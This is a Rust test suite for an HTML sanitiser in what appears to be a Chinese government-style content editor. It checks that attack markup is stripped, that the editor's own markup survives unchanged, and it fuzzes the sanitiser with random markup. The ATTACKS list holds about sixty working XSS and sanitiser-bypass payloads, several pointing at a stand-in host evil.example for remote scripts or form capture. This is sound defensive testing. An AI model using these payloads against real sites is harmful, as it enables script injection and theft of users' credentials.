//! The sanitiser against attacks, against the editor's own markup, and against anything at all.

use documents::html::{SafeHtml, plain_text};
use proptest::prelude::*;
use scraper::Html;

/// After the vectors of the OWASP XSS filter evasion sheet and known mutation attacks on sanitisers.
const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<SCRIPT>alert(1);//\\<</SCRIPT>",
    "<SCRIPT/XSS SRC=\"//evil.example/x.js\"></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<img src=`javascript:alert(1)`>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=/ onerror=\"alert(String.fromCharCode(88,83,83))\">",
    "<img src=\"jav&#x09;ascript:alert(1)\">",
    "<img src=\" &#14; javascript:alert(1)\">",
    "<img dynsrc=\"javascript:alert(1)\" lowsrc=\"javascript:alert(1)\">",
    "<img src=\"/media/a.png\" style=\"background:url(javascript:alert(1))\">",
    "<img src=\"/media/a.png\" srcset=\"//evil.example/a.png 2x\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"//evil.example\">x</a>",
    "<a href=\"/\\evil.example\">x</a>",
    "<a href=\"/\t/evil.example\">x</a>",
    "<a href=\"file:///c:/x\">x</a>",
    "<a onmouseover=alert(1) href=/>x</a>",
    "<a href=\"/c/a\" target=_blank rel=opener ping=//evil.example>x</a>",
    "<body onload=alert(1)>x",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"//evil.example/x.swf\">",
    "<link rel=stylesheet href=\"//evil.example/x.css\">",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style=\"width:expression(alert(1))\">x</p>",
    "<div style=\"position:fixed;inset:0\">x</div>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=\"//evil.example/\">",
    "<form action=\"//evil.example\"><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<table background=\"javascript:alert(1)\"><tr><td background=\"javascript:alert(1)\">x</td></tr></table>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title><a href=\"</title><script>alert(1)</script>\">",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<input onfocus=alert(1) autofocus>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<p class=\"ta-center modal-backdrop\" id=login>x</p>",
    "<template><script>alert(1)</script></template>",
    "<xmp><p title=\"</xmp><script>alert(1)</script>\">",
    "<a name=x id=document>x</a><a id=cookie>y</a>",
    "<table><caption><svg><title><table><img src=x onerror=alert(1)></table></title></svg></caption></table>",
];

const ELEMENTS: &[&str] = &[
    "p",
    "h2",
    "h3",
    "h4",
    "strong",
    "b",
    "em",
    "i",
    "u",
    "sub",
    "sup",
    "ol",
    "ul",
    "li",
    "blockquote",
    "hr",
    "br",
    "a",
    "figure",
    "img",
    "figcaption",
    "table",
    "caption",
    "thead",
    "tbody",
    "tfoot",
    "tr",
    "th",
    "td",
];
const ATTRIBUTES: &[&str] = &[
    "href",
    "title",
    "class",
    "data-name",
    "data-size",
    "rel",
    "src",
    "alt",
    "width",
    "height",
    "start",
    "scope",
    "colspan",
    "rowspan",
];
const CLASSES: &[&str] = &["ta-center", "ta-right", "ta-justify", "indent-2em", "attachment", "seal-date"];

/// Parses the output as a browser would and looks at every element of it, independently of how it was made.
fn assert_harmless(input: &str) {
    let safe = SafeHtml::sanitise(input);
    let output = safe.as_str();
    let document = Html::parse_fragment(output);
    for element in document.root_element().descendent_elements().skip(1) {
        let name = element.value().name();
        assert!(ELEMENTS.contains(&name), "<{name}> survived in {output:?} from {input:?}");
        for (attribute, value) in element.value().attrs() {
            assert!(ATTRIBUTES.contains(&attribute), "{attribute} survived in {output:?} from {input:?}");
            match attribute {
                "src" => assert!(value.starts_with("/media/"), "{output:?} from {input:?}"),
                "class" => assert!(value.split(' ').all(|c| CLASSES.contains(&c)), "{output:?} from {input:?}"),
                "href" => {
                    let scheme = value.split_once(':').map(|(scheme, _)| scheme.to_ascii_lowercase());
                    let known = scheme.is_none_or(|s| {
                        ["http", "https", "mailto", "tel"].contains(&s.as_str()) || s.contains(['/', '#', '?'])
                    });
                    assert!(known && !value.starts_with("//"), "{output:?} from {input:?}");
                }
                _ => {}
            }
        }
    }
    assert_eq!(SafeHtml::sanitise(output), safe, "not stable: {input:?}");
}

#[test]
fn no_attack_survives() {
    assert!(ATTACKS.len() >= 40);
    for attack in ATTACKS {
        assert_harmless(attack);
        assert_harmless(&format!("<p>前{attack}后</p>"));
        assert_harmless(&format!("<table><tr><td>{attack}</td></tr></table>"));
    }
}

#[test]
fn scripts_leave_no_text_behind() {
    for attack in ATTACKS.iter().filter(|a| a.to_lowercase().starts_with("<script>")) {
        assert_eq!(SafeHtml::sanitise(attack).as_str(), "", "{attack}");
    }
    assert_eq!(SafeHtml::sanitise("<style>p{color:red}</style><p>正文</p>").as_str(), "<p>正文</p>");
}

#[test]
fn the_editors_own_markup_is_untouched() {
    for own in [
        "<h2>一、总则</h2>",
        "<p class=\"indent-2em\">为了<strong>规范</strong>、<em>加强</em>、<u>改进</u>工作</p>",
        "<p class=\"ta-right seal-date\">2024年5月1日</p>",
        "<p>H<sub>2</sub>O，m<sup>2</sup><br>次行</p><hr>",
        "<ol start=\"3\"><li><p>甲</p></li></ol><ul><li><p>乙</p></li></ul>",
        "<blockquote><p>引文</p></blockquote>",
        "<p><a href=\"/c/wjzl\" title=\"文件\">文件资料</a></p>",
        "<p><a class=\"attachment\" data-name=\"附件1.docx\" data-size=\"20480\" href=\"/media/ab/cd.docx\">附件1.docx</a></p>",
        "<figure><img alt=\"会场\" height=\"600\" src=\"/media/ab.webp\" width=\"800\"><figcaption>图1</figcaption></figure>",
        "<table><caption>表1</caption><thead><tr><th colspan=\"2\" scope=\"col\">指标</th></tr></thead>\
         <tbody><tr><td class=\"ta-right\" rowspan=\"2\">1</td><td>2</td></tr></tbody></table>",
    ] {
        assert_eq!(canonical(SafeHtml::sanitise(own).as_str()), canonical(own));
    }
}

/// Elements with their attributes in alphabetical order, since their order means nothing.
fn canonical(html: &str) -> Vec<String> {
    let document = Html::parse_fragment(html);
    let elements = document.root_element().descendent_elements();
    let in_order = |e: scraper::ElementRef<'_>| {
        let mut attributes: Vec<_> = e.value().attrs().collect();
        attributes.sort_unstable();
        format!("{} {attributes:?} {:?}", e.value().name(), e.text().collect::<String>())
    };
    elements.map(in_order).collect()
}

#[test]
fn external_links_tell_nothing_about_the_reader() {
    assert_eq!(
        SafeHtml::sanitise("<p><a target=\"_blank\" href=\"https://www.gov.cn/\">国务院</a></p>").as_str(),
        "<p><a href=\"https://www.gov.cn/\" rel=\"noopener noreferrer\">国务院</a></p>"
    );
    assert_eq!(
        SafeHtml::sanitise("<p><a rel=\"noopener\" href=\"/c/a\">本站</a></p>").as_str(),
        "<p><a href=\"/c/a\">本站</a></p>"
    );
}

#[test]
fn what_other_editors_write_finds_its_counterpart() {
    let cases = [
        ("<h1>通知</h1>", "<h2>通知</h2>"),
        ("<h6>小节</h6>", "<h4>小节</h4>"),
        ("<div>甲</div><div>乙</div>", "<p>甲</p><p>乙</p>"),
        ("<div><p>甲</p></div>", "<p>甲</p>"),
        ("<p><font color=red><span lang=EN-US>甲<o:p></o:p></span></font></p>", "<p>甲</p>"),
        ("<table><tr><td width=100 nowrap>甲</td></tr></table>", "<table><tbody><tr><td>甲</td></tr></tbody></table>"),
        ("<p>甲<p>乙", "<p>甲</p><p>乙</p>"),
        ("<td colspan=\"1\">甲</td>", "甲"),
        ("1 < 2 && 3 > 2", "1 &lt; 2 &amp;&amp; 3 &gt; 2"),
    ];
    for (foreign, ours) in cases {
        assert_eq!(SafeHtml::sanitise(foreign).as_str(), ours);
    }
}

#[test]
fn markup_built_to_be_deep_keeps_its_words() {
    for element in ["blockquote", "div", "strong", "ul><li", "table><tr><td"] {
        let deep = format!("{}尽头", format!("<{element}>").repeat(5_000));
        let safe = SafeHtml::sanitise(&deep);
        assert_eq!(plain_text(&safe).trim(), "尽头", "{element}");
        assert_eq!(SafeHtml::sanitise(safe.as_str()), safe);
    }
}

#[test]
fn markup_too_large_to_parse_in_reasonable_time_becomes_text() {
    let huge = format!("{}前&lt;后<b", "<blockquote><!--</blockquote>-->".repeat(100_000));
    let safe = SafeHtml::sanitise(&huge);
    assert_eq!(plain_text(&safe).replace("-->", ""), "前<后");
    assert_eq!(SafeHtml::sanitise(safe.as_str()), safe);
}

#[test]
fn a_foreign_picture_keeps_its_place_but_not_its_address() {
    assert_eq!(
        SafeHtml::sanitise("<p><img src=\"https://example.com/a.png\" alt=\"山\"></p>").as_str(),
        "<p><img alt=\"山\"></p>"
    );
}

/// Markup soup out of everything that has a meaning to a parser.
fn soup() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        proptest::sample::select(ELEMENTS).prop_map(|e| format!("<{e}>")),
        proptest::sample::select(ELEMENTS).prop_map(|e| format!("</{e}>")),
        proptest::sample::select(ATTACKS).prop_map(str::to_owned),
        proptest::sample::select(vec![
            "<div>",
            "</div>",
            "<h1>",
            "</h1>",
            "<svg>",
            "</svg>",
            "<math>",
            "<mtext>",
            "<style>",
            "</style>",
            "<form>",
            "</form>",
            "<select>",
            "<option>",
            "<!--",
            "-->",
            "<a href=\"/c/a\">",
            "<img src=\"/media/a.png\">",
            "<p ",
            "\"",
            "'",
            ">",
            "<",
            "&lt;",
            "&#0;",
            "&nbsp;",
            "\u{0}",
            "<template>",
            "</template>",
            "<pre>\n",
            "<dt>",
            "<td colspan=3 onclick=x>",
            "<frameset>",
            "<col>",
            "<![CDATA[",
            "]]>",
            "<button>",
            "<nobr>",
        ])
        .prop_map(str::to_owned),
        "\\PC{0,8}",
    ];
    proptest::collection::vec(piece, 0..24).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(1_500))]

    #[test]
    fn any_soup_becomes_harmless_and_stable(input in soup()) {
        assert_harmless(&input);
    }

    #[test]
    fn prose_keeps_its_words(text in "[一-龥，。0-9a-z]{1,60}") {
        let html = SafeHtml::sanitise(&format!("<p>{text}</p>"));
        prop_assert_eq!(plain_text(&html), text);
    }
}
